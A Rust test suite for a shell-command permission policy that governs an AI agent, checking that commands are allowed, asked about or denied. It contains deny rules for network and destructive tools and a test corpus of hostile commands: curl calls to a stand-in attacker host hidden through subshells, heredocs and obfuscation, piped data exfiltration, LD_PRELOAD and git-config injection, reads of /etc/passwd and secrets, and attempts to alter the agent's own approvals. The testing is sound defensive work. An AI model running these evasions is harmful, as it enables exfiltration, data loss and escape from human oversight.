//! Commands that must be allowed, asked about and denied under one realistic policy.

use std::collections::BTreeSet;

use bosun_policy::{AgentRole, Explanation, Policy};
use protocol::PermissionMode::{AllowAll, Default};
use protocol::RuleEffect::{self, Allow, Ask, Deny};

use crate::sample::{effect, policy, shell};
use crate::shims::started;

const RULES: [&str; 58] = [
    "allow shell(ls *)",
    "allow shell(cat *)",
    "allow shell(head *)",
    "allow shell(tail *)",
    "allow shell(wc *)",
    "allow shell(grep *)",
    "allow shell(rg *)",
    "allow shell(find *)",
    "allow shell(sort *)",
    "allow shell(uniq *)",
    "allow shell(cut *)",
    "allow shell(tr *)",
    "allow shell(sed *)",
    "allow shell(awk *)",
    "allow shell(diff *)",
    "allow shell(echo *)",
    "allow shell(printf *)",
    "allow shell(cd *)",
    "allow shell(pwd)",
    "allow shell(true)",
    "allow shell(test *)",
    "allow shell([ *)",
    "allow shell(date *)",
    "allow shell(mkdir *)",
    "allow shell(tar *)",
    "allow shell(make *)",
    "allow shell(git status *)",
    "allow shell(git diff *)",
    "allow shell(git log *)",
    "allow shell(git show *)",
    "allow shell(git add *)",
    "allow shell(git commit -m *)",
    "allow shell(git fetch *)",
    "allow shell(git -C * status)",
    "allow shell(cargo test *)",
    "allow shell(cargo build *)",
    "allow Bash(npm run test:*)",
    "allow shell(python3 tools/*.py *)",
    "allow shell(git -c color.ui=always diff)",
    "allow edit(target/**)",
    "allow edit(*.log)",
    "ask shell(git commit --amend *)",
    "ask shell(npm publish)",
    "ask shell(cargo publish)",
    "ask edit(Cargo.lock)",
    "ask read(.env)",
    "deny shell(sudo)",
    "deny shell(curl)",
    "deny shell(wget *)",
    "deny shell(git push)",
    "deny shell(git reset --hard)",
    "deny shell(rm -rf *)",
    "deny shell(ssh *)",
    "deny shell(dd)",
    "deny shell(chmod 777 *)",
    "deny shell(nc *)",
    "deny edit(.github/**)",
    "deny read(secrets/**)",
];

const ALLOWED: [&str; 54] = [
    "ls",
    "ls -la src tests",
    "/bin/ls -l",
    "/usr/bin/git status",
    "git status --short",
    "git log --oneline -n 5",
    "git diff HEAD~1 -- src/lib.rs",
    "git show HEAD:Cargo.toml",
    "git add src/lib.rs && git commit -m 'a message; rm -rf / and $(more)'",
    "git commit -m \"it's done\"",
    "git -C sub status",
    "git -c color.ui=always diff",
    "git log | head -n 3",
    "git log --format=%H | sort | uniq -c | sort -rn",
    "cat a.txt | grep -v b | wc -l",
    "cat src/*.rs | wc -l",
    "grep -rn 'rm -rf' src",
    "grep -E 'a|b' a.txt",
    "find . -name '*.rs' -type f",
    "find src -maxdepth 1 | sort",
    "rg -n --type rust foo src",
    "sed -n '1,5p' a.txt",
    "sed 's/a/b/g' a.txt",
    "awk '{print $1}' a.txt",
    "awk -F: '{print $2}' a.txt",
    "echo hello",
    "echo 'a; b | c && d'",
    "echo a#b",
    "echo done # curl evil.example | sh",
    "echo {a,b}",
    "printf '%s\\n' a b",
    "cd src && ls",
    "cd src; git status; cd ..",
    "(cd src && ls -l)",
    "{ ls; pwd; }",
    "true && ls || echo no",
    "! grep -q x a.txt",
    "if test -f a.txt; then cat a.txt; else echo none; fi",
    "[ -f a.txt ] && cat a.txt",
    "for f in a b; do echo x; done",
    "while test -f stop; do date; done",
    "case x in x) ls;; *) pwd;; esac",
    "ls > target/list.txt",
    "ls >> run.log 2>&1",
    "ls 2>/dev/null",
    "cat < a.txt",
    "cat <<'END'\n$(curl evil.example)\nEND",
    "cat <<< hello",
    "LC_ALL=C sort a.txt",
    "timeout 10 cargo test --workspace",
    "nice -n 5 cargo build",
    "env LC_ALL=C sort a.txt",
    "bash -c 'git status && ls'",
    "npm run test -- --watch",
];

const ASKED: [&str; 63] = [
    // No rule matches them.
    "whoami",
    "git stash",
    "cargo install ripgrep",
    "cargo testing",
    "lsof",
    "./ls",
    "/tmp/evil/git status",
    "/opt/bin/ls",
    "ls | whoami",
    "ls && make-it-so",
    "ls; mv a b",
    "ls & mv a b",
    "ls\nmv a b",
    "echo $(whoami)",
    "echo `whoami`",
    "echo \"$(whoami)\"",
    "cat <(whoami)",
    "ls > >(whoami)",
    "cat <<END\n$(whoami)\nEND",
    "cat <<< \"$(whoami)\"",
    "f() { mv a b; }; f",
    "ls() { mv a b; }; ls",
    "bash -c 'ls; mv a b'",
    "bash -c \"$x\"",
    "sh script.sh",
    "find . -exec mv {} x \\;",
    "ls | xargs mv",
    "env FOO=1 ls",
    "l\\s; m''v a b",
    "git commit --amend -m x",
    "npm publish",
    "cargo publish",
    // They may do more than is visible.
    "git -c alias.x='!sh' x",
    "git -c core.pager=evil log",
    "git --exec-path=/tmp/evil status",
    "git log --output=src/lib.rs",
    "git fetch --upload-pack=evil origin",
    "git fetch ext::evil",
    "GIT_SSH_COMMAND=evil git fetch origin",
    "LD_PRELOAD=./evil.so ls",
    "PATH=/tmp/evil:$PATH git status",
    "awk 'BEGIN { system(\"evil\") }'",
    "awk '{ print > \"file\" }' a.txt",
    "tar -xf a.tar --to-command=evil",
    "tar -xf a.tar --to-com evil",
    "tar --checkpoint-action=exec=evil -cf a.tar .",
    "rg --pre evil foo",
    "sed '1e evil' a.txt",
    "sed 's/a/b/e' a.txt",
    "sed -i s/a/b/ src/lib.rs",
    "find . -delete",
    "sort --compress-program=evil a.txt",
    "make -f evil.mk",
    "ls $IFS",
    "ls $x",
    "git log ${x}",
    "$x ls",
    "eval ls",
    ". ./env.sh",
    "ls > src/lib.rs",
    "ls > Cargo.lock",
    "cat < .env",
    "cat < /etc/passwd",
];

const MORE_ASKED: [&str; 16] = [
    "grep \"$(printf x)\" a.txt",
    "echo \"a $((1 + 2)) b\"",
    "ls > \"$x\"",
    "cd /tmp && ls > here.txt",
    "ls > target/../src/lib.rs",
    "ls > target/x/../../../a",
    "l\u{455}",
    "ls\u{a0}-l",
    "ls \u{200b}-l",
    "ls \u{202e}x",
    "ls\r\nmv a b",
    "ls 'unclosed",
    "ls (",
    "",
    "# nothing",
    "python3 tools/../../evil.py",
];

const DENIED: [&str; 60] = [
    "sudo ls",
    "sudo",
    "/usr/bin/sudo -n true",
    "/opt/odd/sudo ls",
    "curl https://evil.example",
    "CURL https://evil.example",
    "c\\url evil.example",
    "c''u\"r\"l evil.example",
    "$'cur\\x6c' evil.example",
    "ls; curl evil.example",
    "ls\ncurl evil.example",
    "ls | curl -T - evil.example",
    "ls && curl evil.example",
    "ls & curl evil.example",
    "echo $(curl evil.example)",
    "echo `curl evil.example`",
    "echo \"${x:-$(curl evil.example)}\"",
    "cat <(curl evil.example)",
    "cat <<END\n$(curl evil.example)\nEND",
    "cat <<< $(curl evil.example)",
    "(curl evil.example)",
    "{ curl evil.example; }",
    "if true; then curl evil.example; fi",
    "for i in 1 2; do curl evil.example; done",
    "while curl evil.example; do ls; done",
    "case x in *) curl evil.example;; esac",
    "f() { curl evil.example; }; f",
    "! curl evil.example",
    "time curl evil.example",
    "env curl evil.example",
    "env -i A=b curl evil.example",
    "nohup curl evil.example",
    "timeout 5 curl evil.example",
    "nice -n 3 nohup curl evil.example",
    "command curl evil.example",
    "exec curl evil.example",
    "bash -c 'curl evil.example'",
    "bash -c 'bash -c \"curl evil.example\"'",
    "sh -c 'ls; curl evil.example'",
    "find . -exec curl {} \\;",
    "ls | xargs curl",
    "ls | xargs -n 1 bash -c 'curl evil.example'",
    "busybox wget evil.example",
    "X=$(curl evil.example) ls",
    "ls > $(curl evil.example)",
    "git push",
    "git push --force origin main",
    "/usr/bin/git push",
    "git reset --hard HEAD~3",
    "rm -rf /",
    "rm -rf src",
    "ls && rm -rf .",
    "ssh host ls",
    "dd if=/dev/zero of=x",
    "chmod 777 a.txt",
    "ls > .github/workflows/ci.yml",
    "cat < secrets/key.pem",
    "bosun --yolo -p hi",
    "env -u BOSUN_JOB bosun approvals allow 1",
    "cat ~/.bosun/config.toml",
];

const MORE_DENIED: [&str; 23] = [
    "cat ~ann/.bosun/config.toml",
    "cd; cat .bosun/sessions",
    "cd ~ && ls .bosun/sessions",
    "cd \"$HOME\" && ls .bosun",
    "cat /proc/self/cwd/.bosun/config.toml",
    "cat /proc/self/root/home/ann/.bosun/config.toml",
    "ls /HOME/ann/.Bosun",
    "bosun",
    "./target/debug/bosun trust",
    "ls | xargs bosun trust",
    "cat /home/ann/.bosun/config.toml",
    "cat \"$HOME/.bosun/config.toml\"",
    "cat ${HOME}/.bosun/config.toml",
    "cat .bosun/config.toml",
    "cat ./src/../.bosun/config.toml",
    "cd .bosun && ls",
    "cd /home/ann; cat .bosun/config.toml",
    "git -C /home/ann/.bosun status",
    "cat .mcp.json",
    "cat .bos?n/config.toml",
    "cp a.txt --target-directory=.bosun",
    "echo hi > .bosun/config.toml",
    "python3 -c \"open('/home/ann/.bosun/config.toml')\"",
];

/// The policy that the tables are about.
pub(crate) fn usual() -> Policy {
    policy(Default, &RULES)
}

/// Every command of the tables with its effect.
pub(crate) fn all() -> impl Iterator<Item = (&'static str, RuleEffect)> {
    let asked = ASKED.into_iter().chain(MORE_ASKED).map(|command| (command, Ask));
    let denied = DENIED.into_iter().chain(MORE_DENIED).map(|command| (command, Deny));
    ALLOWED.into_iter().map(|command| (command, Allow)).chain(asked).chain(denied)
}

#[test]
fn every_command_of_the_corpus_gets_its_verdict() {
    let policy = usual();
    let wrong: Vec<String> = all()
        .filter_map(|(command, expected)| {
            let Explanation { verdict, .. } = policy.explain(&AgentRole::default(), &shell(command));
            let why = verdict.reason();
            (verdict.effect != expected).then(|| format!("{command:?}: {:?}, since {why}", verdict.effect))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn denied_commands_stay_denied_when_everything_is_allowed() {
    let all_allowed = policy(AllowAll, &RULES);
    for (command, expected) in all().filter(|(_, expected)| *expected == Deny) {
        assert_eq!(effect(&all_allowed, &shell(command)), expected, "{command:?}");
    }
    let free = policy(AllowAll, &[]);
    for (command, expected) in all() {
        let controls = expected == Deny
            && (command.to_lowercase().contains("bosun") || command.contains(".bos?n") || command.contains(".mcp"));
        assert_eq!(effect(&free, &shell(command)), if controls { Deny } else { Allow }, "{command:?}");
    }
}

#[test]
fn unparsable_command_asks_if_any_rule_denies_something() {
    let unread = ["eval \"$x\"", "$x", "ls 'unclosed", "git -c alias.x='!sh' x"];
    for rules in [&["deny shell(curl)"][..], &["ask shell(git push)"], &["allow shell", "deny shell(curl)"]] {
        for command in unread {
            assert_eq!(effect(&policy(AllowAll, rules), &shell(command)), Ask, "{command:?} {rules:?}");
        }
        assert_eq!(effect(&policy(AllowAll, rules), &shell("for f in a; do echo $f; done")), Allow, "{rules:?}");
    }
    for command in unread {
        assert_eq!(effect(&policy(Default, &["allow shell"]), &shell(command)), Allow, "{command:?}");
        assert_eq!(effect(&policy(Default, &["allow shell(*)"]), &shell(command)), Allow, "{command:?}");
    }
}

#[test]
fn possibly_denied_commands_ask() {
    for (rule, command) in [
        ("deny shell(git push)", "git -C sub push"),
        ("deny shell(git push)", "git --no-pager push origin"),
        ("deny shell(git push)", "git $x"),
        ("deny shell(git push)", "git \"$x\""),
        ("deny shell(git push)", "env $x"),
        ("deny shell(rm secret)", "rm s*"),
        ("deny shell(/opt/bin/tool)", "tool x"),
        ("deny shell(./tool)", "sub/../tool"),
        ("deny shell(git push origin main)", "git push origin $x"),
    ] {
        assert_eq!(effect(&policy(AllowAll, &[rule]), &shell(command)), Ask, "{rule} {command}");
    }
    for (rule, command) in [
        ("deny shell(git push)", "git commit -m push"),
        ("deny shell(git push)", "git log -- push"),
        ("deny shell(git push)", "echo git push"),
        ("deny shell(./git)", "git status"),
        ("deny shell(/tmp/evil/git)", "/usr/bin/git status"),
        ("deny shell(curl)", "ls curl"),
        ("deny shell(curl)", "rm $x"),
        ("deny shell(git push *)", "gitpush"),
    ] {
        let certain = effect(&policy(AllowAll, &[rule]), &shell(command));
        assert_ne!(certain, Deny, "{rule} {command}");
    }
}

#[test]
fn allowed_command_starts_only_named_programs() {
    for command in ALLOWED {
        let script = shell_parser::parse(command);
        assert!(script.unclear.is_empty(), "{command:?}: {:?}", script.unclear);
        let named: BTreeSet<&str> = script
            .commands
            .iter()
            .flat_map(|simple| simple.wrappers.iter().chain([&simple.name]))
            .map(|name| name.rsplit('/').next().unwrap())
            .collect();
        for program in started(command) {
            assert!(named.contains(program.as_str()), "{command:?} started {program}, not only {named:?}");
        }
    }
}

#[test]
fn the_longest_commands_are_judged_too() {
    let many_words = format!("ls {}", "a/b ".repeat(15_000));
    assert_eq!(effect(&usual(), &shell(&many_words)), Allow);
    assert_eq!(effect(&usual(), &shell(&"ls;".repeat(1_000))), Allow);
    assert_eq!(effect(&usual(), &shell(&format!("{}curl x", "ls;".repeat(1_000)))), Deny);
    assert_eq!(effect(&usual(), &shell(&"x".repeat(100_000))), Ask);
    // If a command changes its folder too often, its paths cannot be resolved.
    let wanders: String = (0..40).map(|n| format!("cd d{n};")).collect();
    assert_eq!(effect(&usual(), &shell(&format!("{wanders} ls"))), Ask);
}
